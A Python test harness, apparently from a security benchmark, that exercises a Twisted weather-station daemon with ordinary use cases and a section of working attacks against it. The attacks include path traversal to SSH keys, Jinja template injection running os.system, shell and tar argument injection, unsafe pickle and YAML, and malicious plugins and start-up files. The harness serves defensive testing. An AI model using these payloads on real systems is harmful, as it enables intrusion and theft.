# SPDX-License-Identifier: Apache-2.0
"""A daemon of weather stations, with drivers (Twisted: pages, lines, UDP)."""
import base64
import contextlib
import hashlib
import io
import json
import os
import pickle
import socket
import urllib.parse

from PIL import Image

from attackers import Bomb, in_yaml
import stage

KEY = "not-" + stage.SECRET
GROWERS = ["anna", "Jean-Luc", "m.berg", "Ana Maria", "o.brien", "zoe_lu"]
STATIONS = {"north-1": "davis", "creek.2": "lora", "Hill 7": "table",
            "south-4": "davis", "East field": "table", "v2.orchard b": "lora",
            "quarry-19": "davis"}
UNITS = {"__init__.py": '"""Units."""\n\n\ndef celsius(value):\n'
                        "    return (value - 32) / 1.8\n"}
UNITS_NEW = {
    "__init__.py": "from sensorunits.tables import celsius\n",
    "tables.py": "import json\nimport pathlib\n\n"
                 'PLACE = pathlib.Path(__file__).with_name("units.json")\n\n\n'
                 "def celsius(value):\n"
                 '    with open(PLACE, encoding="utf-8") as file:\n'
                 "        known = json.load(file)\n"
                 '    return (value - known["zero"]) / known["step"]\n',
    "units.json": '{"zero": 32, "step": 1.8}\n'}
EVIL_DRIVER = """
from zope.interface import implementer
from twisted.plugin import IPlugin
from orchard.idriver import IDriver
@implementer(IDriver, IPlugin)
class Evil:
    name = "evil"
evil = Evil()
"""


def picture(kind, side=40):
    out = io.BytesIO()
    Image.new("RGB", (side, side), "olive").save(out, kind)
    return out.getvalue()


class Station:
    """A station, on a line of its own."""

    def __init__(self, port):
        self.peer = socket.create_connection(("127.0.0.1", port), 10)
        self.file = self.peer.makefile("rb")

    def ask(self, *words, data=b""):
        self.peer.sendall("|".join(words).encode() + b"\n" + data)
        return self.answer()

    def answer(self):
        return self.file.readline().decode().rstrip("\n")

    def close(self):
        self.file.close()
        self.peer.close()


class TwistedOrchard(stage.Service):
    """Weather stations of growers: drivers, hooks, UDP, pages (Twisted)."""
    packages = ["python3-twisted", "python3-jinja2", "python3-yaml",
                "python3-pil"]

    def arrange(self):
        stage.write(self.srv / "etc/secret.key", KEY, 0o600)
        stage.write(self.srv / "etc/growers.json", json.dumps({
            name: hashlib.pbkdf2_hmac("sha256", name[::-1].encode(),
                                      KEY.encode(), 1000).hex()
            for name in GROWERS}), 0o600)
        (self.srv / "var").mkdir()
        for name in ("north-1", "creek.2", "Hill 7"):
            stage.write(self.srv / "etc/stations.d"
                        / (name.replace(" ", "_") + ".yaml"),
                        self.settings(name, STATIONS[name]))
        self.install("sensorunits", "1.4.0", UNITS)

    def arrange_benign(self):
        self.install("sensorunits", "1.5.0", UNITS_NEW)

    @staticmethod
    def token(name):
        return "t" + hashlib.sha1(name.encode()).hexdigest()[:12]

    def settings(self, name, driver, **formulae):
        lines = [f"name: {name}", f"driver: {driver}",
                 f"token: {self.token(name)}"]
        if formulae:
            lines.append("formulae:")
            lines += [f"  {kind}: {text}" for kind, text in formulae.items()]
        return "\n".join(lines) + "\n"

    def command(self):
        return [self.python, "-m", "twisted", "orchard",
                f"--web={self.port('web')}",
                f"--stations={self.port('stations')}",
                f"--beacons={self.port('beacons')}"]

    # ------------------------------------------------------------ ordinary use
    def enter(self, name):
        browser = self.browser()
        self.expect_answer(f"{name} enters", browser.post(
            "/enter", name=name, password=name[::-1]), f"welcome {name}")
        return browser

    @contextlib.contextmanager
    def station(self, name):
        station = Station(self.port("stations"))
        try:
            told = station.ask("HELLO", name, self.token(name))
            self.expect(f"hello of {name}", told.startswith("200"), told)
            yield station
        finally:
            station.close()

    def says(self, station, words, start, data=b""):
        told = station.ask(*words, data=data)
        self.expect("|".join(words), told.startswith(start), told)
        return told

    def reports_in(self, name, date, readings, photos=()):
        """readings: (hour, kind, what it says, what is understood)."""
        with self.station(name) as station:
            for hour, kind, text, value in readings:
                self.says(station, ["READ", f"{date}T{hour}:00", kind, text],
                          f"201 {value}")
            for photo, data in photos:
                self.says(station, ["PHOTO", photo, str(len(data))], "202",
                          data)
            told = self.says(station, ["LOG", date], "> " + date)
            while told.startswith("> "):
                told = station.answer()
            self.says(station, ["QUIT"], "221")

    def beacon(self, *words):
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as peer:
            peer.settimeout(5)
            peer.sendto("|".join(words).encode(),
                        ("127.0.0.1", self.port("beacons")))
            return json.loads(peer.recv(2000))

    def expect_beacon(self, words, key, value):
        try:
            told = self.beacon(*words)
        except OSError as error:
            told = {"error": str(error)}
        self.expect("|".join(words), told.get(key) == value, told)

    def new_station(self, browser, name, **formulae):
        self.expect_answer(f"settings of {name}", browser.post(
            "/stations", settings=self.settings(name, STATIONS[name],
                                                **formulae)), json.dumps(name))

    def sees_photos(self, browser, name, photos, width):
        for photo, data in photos:
            self.expect_answer(f"photo {photo}", browser.upload(
                f"/photos/{name}", "x", data, title=photo), str(len(data)))
            self.expect_answer(f"{photo} again", browser.get(
                f"/photos/{name}", name=photo), data)
            self.expect_answer(f"small {photo}", browser.get(
                f"/photos/{name}", name=photo, width=width), b"\x89PNG")

    def sees(self, browser, name, dates, kind, letter):
        self.expect_answer("home", browser.get("/"), name)
        self.expect_answer(f"page of {name}", browser.get(
            f"/stations/{name}"), "<td>")
        self.expect_answer(f"report of {name}", browser.get(
            f"/report/{name}", **{"from": dates[0], "to": dates[-1],
                                  "kind": kind}), dates[0])
        self.expect_answer(f"letter {letter}", browser.post(
            "/letter", name=letter, station=name), "orchard house")
        dates = "&".join("date=" + date for date in dates)
        self.expect_answer(f"pack of {name}", browser.fetch(
            "/pack/" + urllib.parse.quote(name) + "?" + dates), b"\x1f\x8b")

    def alarm(self, browser, name, kind, most, action, target):
        self.expect_answer(f"alarm of {name}", browser.post(
            "/alarms", station=name, kind=kind, most=most, action=action,
            target=target), "set")

    def weather(self):
        self.site("weather").page("*", '{"sky": "fair"}')
        self.site("farmhand").page("*", "thanks")
        return self.site("weather").url, self.site("farmhand").url

    def train(self, day):
        weather, farmhand = self.weather()
        visitor = self.browser()
        self.expect_answer("home", visitor.get("/"), "nobody")
        self.expect_answer("style", visitor.get("/static/page.css"), "olive")
        self.expect_answer("stranger", visitor.get("/drivers"), status=403)
        self.expect_answer("wrong password", visitor.post(
            "/enter", name="anna", password="x"), status=403)
        self.expect_answer("no such page", visitor.get("/none"), status=404)
        date, before = f"2026-0{day}-1{day}", f"2026-0{day}-0{day}"
        name = ["south-4", "East field", "v2.orchard b"][day - 1]
        anna, other = self.enter("anna"), self.enter(GROWERS[day])
        self.expect_answer("drivers", anna.get("/drivers"), "lora")
        self.new_station(anna, name, temp=f"x + {day}")
        self.expect_answer("formula tried", anna.get(
            "/try", formula=f"x * {day}", x=4), str(4.0 * day))
        self.alarm(anna, "north-1", "temp", 30, "hook", "siren.sh")
        self.alarm(anna, "creek.2", "soil", 50, "url",
                   f"{farmhand}/fields/{day}")
        self.alarm(other, "Hill 7", "temp", 20, "hook", "pump.py")
        self.alarm(other, name, "rain", 5, "log", f"rain-{day}")
        self.alarm(other, name, "rain", 6, "hook", "siren.sh")
        self.alarm(other, name, "soil", -1, "hook", "pump.py")
        self.reports_in("north-1", date, [
            ("06", "temp", "50", "10.00"), ("14", "temp", "104", "40.00"),
            ("15", "rain", "0.4", "0.40")],
            [(f"row{day}.png", picture("PNG"))])
        self.reports_in("north-1", before, [("07", "temp", "41", "5.00")])
        self.reports_in("creek.2", date, [
            ("06", "temp", "04d2", "12.34"), ("07", "soil", "1f40", "80.00")])
        self.reports_in("Hill 7", date, [
            ("06", "temp", "240", "8.50"), ("12", "temp", "410", "21.00"),
            ("13", "soil", "600", "50.00")],
            [(f"2026/blossom {day}.jpg", picture("JPEG"))])
        rain = {"davis": "9", "table": "9", "lora": "0384"}[STATIONS[name]]
        self.reports_in(name, before, [("09", "rain", rain, "9.00"),
                                       ("10", "soil", rain, "")],
                        [("gate.jpeg", picture("JPEG"))])
        for station in ("north-1", name):
            self.expect_beacon(["alive", station, f"9{day}"], "battery",
                               90 + day)
        self.expect_beacon(["ask", "creek.2"], "visits", 1)
        self.expect_beacon(["restore", "Hill 7", base64.b64encode(
            pickle.dumps({"battery": 40 + day})).decode()], "battery",
            40 + day)
        self.sees_photos(anna, "north-1", [
            (f"tree-{day}.png", picture("PNG", 300)),
            ("2026/spring/leaf.v2.jpg", picture("JPEG", 60))], 100)
        self.sees_photos(other, name, [
            (f"tank {day}.bmp", picture("BMP", 220))], 64)
        self.sees(anna, "north-1", [before, date], "csv", "weekly")
        self.sees(other, "Hill 7", [date], "html", "list")
        self.sees(other, name, [before], "html", "weekly")
        self.expect_answer("letter of her own", anna.post(
            "/letter", station="creek.2",
            text="{{ grower }}: {{ rows|length }}"), "anna: 2")
        for path in (f"/{date}/valley", f"/week/{day}?units=metric"):
            self.expect_answer(f"forecast {path}", anna.get(
                "/forecast", source=weather + path), "fair")
        self.expect_answer("forecast again", anna.get(
            "/forecast", source=f"{weather}/{date}/valley"), "fair")
        self.expect("the farmhand was told", self.happens(
            lambda: self.site("farmhand").heard("creek.2")))
        for made in ("sirens/north-1", "pumps/Hill 7.json",
                     f"sirens/{name}", f"pumps/{name}.json",
                     f"log/rain-{day}.log"):
            self.expect(made, self.happens(
                (self.srv / "var" / made).exists))
        self.expect_answer("no such photo", anna.get(
            "/photos/north-1", name="none.png"), status=404)
        with self.station("north-1") as station:
            self.says(station, ["JUMP"], "500")
            self.says(station, ["READ", date + "T20:00", "temp", "warm"],
                      "550")
        if day != 1:
            self.restart()
            self.reports_in("creek.2", date, [("21", "temp", "0000", "0.00")])
            self.sees(self.enter("anna"), "creek.2", [date], "csv", "list")

    def benign(self):
        weather, farmhand = self.weather()
        visitor = self.browser()
        self.expect_answer("home", visitor.get("/"), "nobody")
        self.expect_answer("script", visitor.get("/static/page.js"), "reload")
        self.expect_answer("stranger", visitor.get("/try"), status=403)
        brien, zoe = self.enter("o.brien"), self.enter("zoe_lu")
        self.expect_answer("drivers", zoe.get("/drivers"), "table")
        STATIONS.update({"Østre hage 12": "davis", "a.b c-d": "lora",
                         "pond": "table"})
        for name in ("quarry-19", "Østre hage 12", "a.b c-d", "pond"):
            self.new_station(brien, name, wind="math.floor(x)")
        self.alarm(brien, "quarry-19", "rain", 12.5, "hook", "pump.py")
        self.alarm(brien, "Østre hage 12", "temp", 35, "hook", "siren.sh")
        self.alarm(zoe, "a.b c-d", "soil", 20, "url",
                   f"{farmhand}/v2/fields/upper%20one?who=zoe")
        self.alarm(zoe, "pond", "leaf", 3, "log", "Leaves of the pond")
        self.reports_in("quarry-19", "2027-11-21", [
            ("00", "rain", "13", "13.00"), ("01", "wind", "7.9", "7.00")],
            [("IMG_0042.PNG", picture("PNG", 90)),
             ("2027/may/upper row/bees (3).jpeg", picture("JPEG", 70))])
        self.reports_in("Østre hage 12", "2031-12-31", [
            ("23", "temp", "122", "50.00")], [("träd.gif", picture("GIF"))])
        self.reports_in("a.b c-d", "2026-03-03", [
            ("05", "soil", "0fa0", "40.00"), ("06", "wind", "01f5", "5.00")])
        self.reports_in("pond", "2026-03-04", [
            ("05", "leaf", "300", "12.00"), ("06", "snow", "3", "3.00")])
        self.reports_in("north-1", "2026-03-05", [("5", "temp", "50", "10")])
        for name, battery in (("quarry-19", 7), ("pond", 100)):
            self.expect_beacon(["alive", name, str(battery)], "battery",
                               battery)
        self.expect_beacon(["ask", "a.b c-d"], "visits", 1)
        self.expect_beacon(["ask", "nobody's"], "error", "unknown")
        self.expect_beacon(["dance", "pond"], "error", "what?")
        self.expect_beacon(["restore", "a.b c-d", base64.b64encode(
            pickle.dumps({"battery": 3, "note": [1.5, None]})).decode()],
            "battery", 3)
        self.sees_photos(brien, "quarry-19", [
            ("Rechnung Nr. 4 (Kopie).png", picture("PNG", 900)),
            ("2027/11/21/dawn/frost.v1.2.jpeg", picture("JPEG", 400)),
            ("map.bmp", picture("BMP", 500))], 320)
        self.sees_photos(zoe, "Østre hage 12", [
            ("grøn.gif", picture("GIF", 80))], 48)
        self.sees(brien, "quarry-19", ["2027-11-21"], "html", "weekly")
        self.sees(zoe, "pond", ["2026-03-04"], "csv", "list")
        self.sees(zoe, "a.b c-d", ["2026-03-03"], "csv", "weekly")
        self.sees(brien, "Østre hage 12", ["2031-12-31"], "json", "list")
        self.expect_answer("letter of her own", zoe.post(
            "/letter", station="pond", text="{% for r in rows %}{{ r[1]|upper "
            "}} {% endfor %}{% include 'foot.txt' %}"), "SNOW")
        self.site("weather").page("/old", "", 302, Location=weather + "/new")
        for path in ("/2031-12-31/uplands?units=us&days=14", "/old",
                     "/deep/er/and/deeper/x.json"):
            self.expect_answer(f"forecast {path}", zoe.get(
                "/forecast", source=weather + path), "fair")
        self.expect_answer("fresh forecast", zoe.get(
            "/forecast", source=weather + "/old", fresh="yes"), "fair")
        self.site("weather").page("/down", "busy", 503)
        self.expect_answer("forecast that fails", zoe.get(
            "/forecast", source=weather + "/down"), "503", status=500)
        self.expect("the farmhand was told", self.happens(
            lambda: self.site("farmhand").heard("a.b c-d")))
        for made in ("sirens/Østre hage 12", "pumps/quarry-19.json",
                     "log/Leaves of the pond.log"):
            self.expect(made, self.happens(
                (self.srv / "var" / made).exists))
        # What goes wrong.
        self.expect_answer("no such kind", zoe.get(
            "/report/pond", kind="xls"), status=404)
        self.expect_answer("no such letter", zoe.post(
            "/letter", name="yearly", station="pond"), status=500)
        self.expect_answer("no such station", zoe.get(
            "/stations/moon"), status=404)
        self.expect_answer("no such day", zoe.get(
            "/pack/pond", date="1999-01-01"), status=500)
        self.expect_answer("broken formula", zoe.get(
            "/try", formula="x / 0", x=1), status=500)
        self.expect_answer("no picture", zoe.upload(
            "/photos/pond", "x", b"notes, not pixels", title="notes.jpg"),
            "17")
        self.expect_answer("small one of it", zoe.get(
            "/photos/pond", name="notes.jpg", width=50), status=500)
        self.expect_answer("post to drivers", zoe.post("/drivers"),
                           status=405)
        self.expect_answer("broken settings", zoe.post(
            "/stations", settings="name: [x"), status=500)
        with self.station("quarry-19") as station:
            self.says(station, ["LOG", "2020-01-01"], "550")
            self.says(station, ["READ", "2027-11-21T02:00"], "550")
        stranger = Station(self.port("stations"))
        self.expect("a stranger", stranger.ask("HELLO", "x", "y").startswith(
            "403"))
        stranger.close()
        self.restart()
        self.reports_in("a.b c-d", "2026-04-04", [
            ("05", "soil", "0064", "1.00")])
        self.sees(self.enter("Ana Maria"), "a.b c-d",
                  ["2026-03-03", "2026-04-04"], "html", "weekly")

    def health(self):
        self.reports_in("north-1", "2026-01-01", [
            ("06", "temp", "50", "10.00")])
        self.expect_beacon(["alive", "north-1", "91"], "battery", 91)
        self.expect_answer("report", self.enter("anna").get(
            "/report/north-1", **{"from": "2026-01-01", "to": "2026-01-01"}),
            "10.0")

    # ----------------------------------------------------------------- attacks
    def gets(self, path, **query):
        return self.enter("anna").get(path, **query)[1]

    def photo(self, name, **more):
        return self.gets("/photos/north-1", name=name, **more)

    def sends_photo(self, name, data):
        if isinstance(data, str):
            data = data.encode()
        with self.station("north-1") as station:
            return station.ask("PHOTO", name, str(len(data)), data=data)

    def tries(self, code):
        """code: an expression."""
        return self.gets("/try", formula=code, x=1)

    def runs(self, code):
        """code: statements."""
        return self.tries(f"exec({code!r})")

    def letter(self, code):
        return self.enter("anna").post("/letter", station="north-1", text=(
            "{{ cycler.__init__.__globals__.__builtins__." + code + " }}"))[1]

    def settings_run(self, code):
        return self.enter("anna").post("/stations", settings=in_yaml(code))

    def restores(self, *call):
        with contextlib.suppress(OSError):
            self.beacon("restore", "north-1", base64.b64encode(
                pickle.dumps(Bomb(*call))).decode())

    def packs(self, dates):
        self.reports_in("north-1", "2026-01-01", [
            ("06", "temp", "50", "10.00")])
        return self.gets("/pack/north-1", date=dates)

    @stage.attack("traversal")
    def photo_is_a_private_key(self):
        self.sends_photo("a.png", picture("PNG"))
        return self.is_told(self.photo("../../../../home/.ssh/id_rsa"))

    @stage.attack("secret disclosure")
    def photo_is_the_key_of_the_house(self):
        return self.is_told(self.photo(f"{self.srv}/etc/secret.key"))

    @stage.attack("source disclosure")
    def photo_is_the_source(self):
        return b"UnsafeLoader" in self.photo("../../../orchard/pages.py")

    @stage.attack("secret disclosure")
    def photo_is_the_database(self):
        return b"SQLite" in self.photo(f"{self.srv}/var/orchard.db")

    @stage.attack("template injection")
    def letter_reads_the_environment(self):
        return b"HOME=" in self.letter("open('/proc/self/environ').read()")

    @stage.attack("template injection")
    def letter_runs_a_command(self):
        return self.runs_line(lambda line: self.letter(
            f"__import__('os').system('{line}')"))

    @stage.attack("malicious plugin", fresh=True)
    def photo_becomes_a_driver(self):
        def use(line):
            self.sends_photo("../../../orchard/drivers/evil.py",
                             f"import os\nos.system('{line}')\n" + EVIL_DRIVER)
            self.gets("/drivers")
        return self.runs_line(use)

    @stage.attack("malicious plugin", fresh=True)
    def plugin_of_twisted_steals(self):
        def use(code):
            stage.write(self.site_packages / "twisted/plugins/evil.py", code)
            self.restart()
        return self.steals(use)

    @stage.attack("write to code", fresh=True)
    def photo_replaces_a_template(self):
        self.sends_photo("../../../templates/home.xml", "<p>planted</p>")
        return "planted" in (self.srv / "templates/home.xml").read_text()

    @stage.attack("write to settings", fresh=True)
    def photo_replaces_the_passwords(self):
        target = self.srv / "etc/growers.json"
        names = json.loads(target.read_text())
        self.enter("m.berg").upload(
            "/photos/north-1", "x",
            json.dumps({**names, "mallory": "*x"}).encode(), title=str(target))
        return "mallory" in target.read_text()

    @stage.attack("write to start-up file", fresh=True)
    def photo_replaces_the_profile(self):
        self.sends_photo(f"{self.home}/.profile", "planted")
        return "planted" in (self.home / ".profile").read_text()

    @stage.attack("write to start-up file", fresh=True)
    def photo_becomes_a_pth_file(self):
        self.sends_photo(f"{self.site_packages}/x.pth", "import os")
        return (self.site_packages / "x.pth").exists()

    @stage.attack("SSRF")
    def forecast_is_an_internal_service(self):
        return self.fetches_inside(
            lambda url: self.gets("/forecast", source=url))

    @stage.attack("SSRF")
    def forecast_is_redirected_inside(self):
        return self.is_redirected_inside(
            "weather", lambda url: self.gets("/forecast", source=url))

    @stage.attack("command injection")
    def pack_runs_a_command(self):
        return self.runs_line(lambda line: self.packs(
            f"2026-01-01.log; {line}; echo "))

    @stage.attack("argument injection")
    def pack_runs_a_checkpoint(self):
        return self.runs_line(lambda line: self.packs(
            "2026-01-01.log --checkpoint=1 "
            f"'--checkpoint-action=exec={line}' 2026-01-01"))

    @stage.attack("traversal")
    def pack_holds_the_payroll(self):
        pack = stage.write(self.tmp / "loot.tgz", self.packs(
            "../../../../payroll/2026.csv 2026-01-01"))
        return "payroll" in self.run("tar", "tzf", pack, wrapped=False)[1]

    @stage.attack("argument injection", fresh=True)
    def hook_is_an_interpreter(self):
        def use(line):
            code = f"import os; os.system('{line}')"
            browser = self.enter("anna")
            browser.post("/stations", settings=self.settings(
                '"-c"', "davis"), file="x")
            browser.post("/alarms", station="-c", kind=code, most=1,
                         action="hook", target="/usr/bin/python3")
            station = Station(self.port("stations"))
            station.ask("HELLO", "-c", self.token('"-c"'))
            station.ask("READ", "2026-01-01T06:00", code, "5")
            station.close()
        return self.runs_line(use, waits=True)

    @stage.attack("unsafe yaml")
    def settings_run_a_command(self):
        return self.runs_line(lambda line: self.settings_run(
            f"import os; os.system('{line}')"))

    @stage.attack("unsafe pickle")
    def beacon_runs_a_command(self):
        return self.runs_line(lambda line: self.restores(os.system, line))

    @stage.attack("reverse shell")
    def beacon_calls_home(self):
        return self.calls_home(lambda code: self.restores(exec, code))

    @stage.attack("fork+exec")
    def formula_forks(self):
        return self.forks(self.runs)

    @stage.attack("ctypes")
    def formula_calls_libc(self):
        return self.runs_libc(self.tries)

    @stage.attack("exfiltration")
    def formula_sends_credentials(self):
        return self.steals(self.runs)

    @stage.attack("symlink swap", fresh=True)
    def photo_became_a_link(self):
        self.sends_photo("row1.png", picture("PNG"))
        path = self.srv / "var/photos/north-1/row1.png"
        path.unlink()
        path.symlink_to(self.place / "payroll/2026.csv")
        return self.is_told(self.photo("row1.png"))

    @stage.attack("malicious dependency", fresh=True)
    def sensorunits_sends_credentials(self):
        return self.dependency_steals("sensorunits", "1.4.1", UNITS,
                                      self.restart)
